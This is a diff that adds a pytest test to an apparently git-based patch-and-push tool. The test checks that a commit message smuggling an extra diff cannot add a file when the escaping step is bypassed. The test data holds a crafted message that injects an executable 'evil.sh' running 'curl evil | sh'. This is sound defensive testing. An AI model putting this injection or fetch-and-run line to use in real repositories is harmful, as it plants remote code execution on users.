@@ -562,6 +562,32 @@ def test_a_commit_message_cannot_carry_a_diff_of_its_own(
     assert " diff --git a/evil.sh b/evil.sh" in body and " From: Mallory" in body
 
 
+def test_a_patch_that_does_not_round_trip_through_git_am_is_not_pushed(
+    tmp_path: Path, git_server: GitServer, origin: tuple[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The second line of defence: even a message that reached the patch unescaped
+    (here mail_safe is turned off) cannot add a file, because the applied commit is
+    checked against the patch before anything is pushed."""
+    monkeypatch.setattr(repo_mod, "mail_safe", lambda message: message)
+    url, sha = origin
+    mirror, ws, snap = tmp_path / "mirror", tmp_path / "ws", tmp_path / "snap"
+    fetch_mirror(url, mirror, credentials=CREDS)
+    checkout_at(mirror, sha, ws)
+    checkout_at(mirror, sha, snap)
+    (ws / "README.md").write_text("changed\n")
+    evil = (
+        "Fix the readme\n\n---\ndiff --git a/evil.sh b/evil.sh\nnew file mode 100755\n"
+        "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
+    )
+    diff = compare_trees(snap, ws, ["README.md"])
+    patch = patch_from_tree(mirror, sha, ws, diff, message=evil, scratch=tmp_path / "p").patch
+    with pytest.raises(RepoError, match="does not come out of `git am` as it went in"):
+        push_branch_from_patches(
+            url, mirror, sha, [patch], "cogni/rt", credentials=CREDS, scratch=tmp_path / "push"
+        )
+    assert ref_sha(git_server.root / "proj.git", "refs/heads/cogni/rt") is None
+
+
 # --- push refusals -------------------------------------------------------------------
 
 
